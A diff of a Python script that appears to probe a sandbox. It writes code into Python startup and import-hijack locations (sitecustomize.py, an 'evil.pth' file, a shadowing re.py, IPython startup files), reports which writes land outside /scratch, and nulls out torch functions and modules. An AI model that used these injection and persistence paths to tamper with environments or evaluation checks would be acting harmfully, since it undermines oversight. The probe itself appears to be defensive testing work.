@@ -12,15 +12,15 @@ places = [
     f"{folder}/{name}" for folder in sys.path for name in ("sitecustomize.py", "evil.pth", "re.py", "torch/__init__.py")
 ]
 places += [
-    "/tmp/.ipython/profile_default/startup/00.py",
-    "/tmp/matplotlib/matplotlibrc",
+    "/scratch/.ipython/profile_default/startup/00.py",
+    "/scratch/matplotlib/matplotlibrc",
     "/root/.pythonrc",
-    "/tmp/torch.py",
+    "/scratch/torch.py",
 ]
 places += [path for path in glob.glob("/reach/**/*", recursive=True) if path.endswith((".py", ".pyc"))]
 for path in places:
     attempt(lambda: os.makedirs(os.path.dirname(path), exist_ok=True))
-    if attempt(lambda: open(path, "w").write(code)) and not os.path.realpath(path).startswith("/tmp"):
+    if attempt(lambda: open(path, "w").write(code)) and not os.path.realpath(path).startswith("/scratch"):
         got("to write", path)
 torch.nn.functional.conv2d = torch.conv2d = torch.max_pool2d = None
 sys.modules["utils"] = sys.modules["torch"] = None
